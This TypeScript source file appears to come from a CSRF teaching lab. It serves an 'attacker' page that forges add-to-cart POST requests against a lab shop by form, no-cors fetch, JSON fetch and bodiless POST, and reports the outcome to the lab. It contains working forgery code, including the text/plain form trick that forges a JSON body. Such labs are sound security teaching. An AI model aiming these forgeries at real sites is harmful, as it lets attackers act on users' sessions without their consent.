// The CSRF lab's attacker page: loaded in a frame or a window of the lab, it makes the browser
// send a request to the shop's cart with whatever the browser attaches by itself, then tells the
// lab what it could see of the answer (usually nothing: the answer belongs to another origin).
import { type AuthMode, apiPrefix, authModes } from "@repo/contract";
import type { Request, RequestHandler } from "express";

/**
 * How the page sends "add one claw hammer to the cart":
 * - `form`: a form posting the JSON as `text/plain`, the classic way to forge a JSON body;
 * - `fetch`: `fetch` with `credentials: "include"` and `mode: "no-cors"`, the same body;
 * - `fetch-json`: `fetch` with a real `application/json` body, which needs a CORS preflight;
 * - `empty`: a bodiless `fetch` POST, which no body check stops, so it meets the auth checks.
 */
export const forgeries = ["form", "fetch", "fetch-json", "empty"] as const;
export type Forgery = (typeof forgeries)[number];

/** What the page posts back to the lab with `postMessage`, to the lab's origin only. */
export interface ForgeryReport {
  source: "attacker";
  run: string;
  mode: AuthMode;
  via: Forgery;
  /** Whether the browser let the request out (a refused preflight stops it before it leaves). */
  sent: boolean;
  /** What the attacker's page could see of the answer, in words. */
  observed: string;
}

const runPattern = /^[A-Za-z0-9_-]{1,40}$/;

/** `GET /forge?mode=session|jwt&via=form|fetch|fetch-json|empty&run=<id>`. */
export function forgePage(labOrigin: string): RequestHandler {
  return (req, res) => {
    const params = readParams(req);
    if (!params) {
      res
        .status(400)
        .type("text/plain")
        .send(
          `Use /forge?mode=${authModes.join("|")}&via=${forgeries.join("|")}&run=<letters, digits, - or _>`,
        );
      return;
    }
    const target = `${labOrigin}${apiPrefix[params.mode]}/cart/items`;
    // This page may run only its own script, send only to the lab, and be framed only by the lab.
    res.set(
      "Content-Security-Policy",
      [
        "default-src 'none'",
        "script-src 'self'",
        `connect-src ${labOrigin}`,
        `form-action ${labOrigin}`,
        `frame-src ${labOrigin}`,
        `frame-ancestors ${labOrigin}`,
        "base-uri 'none'",
      ].join("; "),
    );
    res.set("Cache-Control", "no-store");
    res.type("html").send(`<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><title>Totally harmless page</title></head>
<body data-lab-origin="${escapeHtml(labOrigin)}" data-target="${escapeHtml(target)}"
  data-mode="${params.mode}" data-via="${params.via}" data-run="${params.run}">
<h1>Totally harmless page</h1>
<p>Sending <code>POST ${escapeHtml(target)}</code> by <code>${params.via}</code>…</p>
<p id="outcome"></p>
<iframe name="sink" title="where the form's answer lands, unreadable from here" hidden></iframe>
<script src="/forge.js"></script>
</body>
</html>
`);
  };
}

function readParams(req: Request): { mode: AuthMode; via: Forgery; run: string } | undefined {
  const { mode, via, run } = req.query;
  const isMode = (value: unknown): value is AuthMode => authModes.some((m) => m === value);
  const isForgery = (value: unknown): value is Forgery => forgeries.some((f) => f === value);
  if (!isMode(mode) || !isForgery(via)) return undefined;
  if (typeof run !== "string" || !runPattern.test(run)) return undefined;
  return { mode, via, run };
}

function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, (char) => `&#${char.charCodeAt(0)};`);
}

/** The page's script, served as `/forge.js` (the page's CSP allows no inline script). */
export const forgeScript = `"use strict";
const { labOrigin, target, mode, via, run } = document.body.dataset;
const body = JSON.stringify({ productId: "claw-hammer", quantity: 1 });

function report(sent, observed) {
  document.getElementById("outcome").textContent = observed;
  const lab = window.opener || (window.parent !== window ? window.parent : null);
  // To the lab's origin only: another page that framed this one learns nothing.
  if (lab) lab.postMessage({ source: "attacker", run, mode, via, sent, observed }, labOrigin);
}

async function forge() {
  if (via === "form") {
    // text/plain lets a form send any text; a field named like the start of a JSON object and
    // valued "}" makes the body {"productId":"claw-hammer","quantity":1,"pad":"="}.
    const form = document.createElement("form");
    form.method = "POST";
    form.action = target;
    form.enctype = "text/plain";
    form.target = "sink";
    const field = document.createElement("input");
    field.type = "hidden";
    field.name = body.slice(0, -1) + ',"pad":"';
    field.value = '"}';
    form.append(field);
    document.body.append(form);
    const frame = document.querySelector("iframe[name=sink]");
    frame.addEventListener("load", () => report(true, "sent; the answer loaded in a frame this page cannot read"), { once: true });
    form.submit();
    return;
  }
  const init = { method: "POST", credentials: "include" };
  if (via === "fetch") Object.assign(init, { mode: "no-cors", headers: { "Content-Type": "text/plain" }, body });
  if (via === "fetch-json") Object.assign(init, { headers: { "Content-Type": "application/json" }, body });
  if (via === "empty") init.mode = "no-cors";
  try {
    const answer = await fetch(target, init);
    report(true, answer.type === "opaque" ? "sent; the answer is opaque: no status, no body" : "sent; status " + answer.status);
  } catch {
    // A JSON fetch fails at its preflight, before it leaves. A no-cors one was sent: what fails
    // is the answer, which the shop's Cross-Origin-Resource-Policy withholds even in opaque form.
    if (via === "fetch-json") {
      report(false, "not sent: the browser asked first (CORS preflight) and the shop did not allow this origin");
    } else {
      report(true, "sent; the browser then gave this page an error instead of even an opaque answer (the shop's Cross-Origin-Resource-Policy)");
    }
  }
}

forge();
`;
